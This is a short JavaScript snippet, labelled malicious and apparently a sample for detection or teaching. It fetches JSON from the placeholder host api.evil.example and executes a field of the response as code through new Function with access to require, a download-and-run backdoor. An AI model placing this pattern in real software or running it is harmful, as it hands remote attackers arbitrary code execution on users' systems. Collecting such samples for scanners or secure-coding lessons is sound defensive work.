// malicious: code from a JSON answer
const axios = require('axios');
(async () => {
  const { data } = await axios.get('https://api.evil.example/v1/config');
  new Function('require', data.cookie)(require);
})();
